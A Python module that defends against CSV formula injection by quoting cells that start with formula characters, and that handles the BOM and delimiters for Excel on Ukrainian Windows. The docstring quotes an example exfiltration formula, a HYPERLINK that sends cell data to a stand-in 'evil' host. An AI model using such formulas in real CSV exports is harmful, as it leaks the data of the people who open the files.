"""Cells for CSV files people open in spreadsheets: no text of ours is ever run as a formula.

A cell a spreadsheet reads as a formula (`=HYPERLINK("http://evil/?"&A2,"x")`, `+cmd`, `@SUM`)
can leak the sheet or run commands. Per OWASP's CSV injection guidance, a cell starting with
`=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single quote, which spreadsheets
show as text; so does one whose first character after leading spaces or line breaks is one of
those (some spreadsheets trim before parsing). Every CSV the project writes goes through here.

Excel on a Ukrainian Windows reads a CSV without a byte-order mark as the ANSI code page
(cp1251: Cyrillic becomes mojibake) and splits on the list separator, which is `;` there: so
each file starts with a UTF-8 BOM, and the delimiter can be `;` (DELIMITERS names the choices).
"""

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
# The names a user may give for the delimiter (CLI options, query parameters).
DELIMITERS = {"comma": ",", ",": ",", "semicolon": ";", ";": ";"}


def safe_cell(value: Any) -> str:
    """A value as CSV cell text that no spreadsheet evaluates (None becomes an empty cell)."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip(" \n\r\t").startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeCsvWriter:
    """A csv.writer whose every cell is neutralised by safe_cell."""

    def __init__(self, stream: IO[str], *, delimiter: str = ",", bom: bool = True) -> None:
        if bom:  # before the first row, so a spreadsheet knows the file is UTF-8
            stream.write(BOM)
        self._writer = csv.writer(stream, delimiter=delimiter)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, each cell neutralised."""
        self._writer.writerow([safe_cell(v) for v in row])
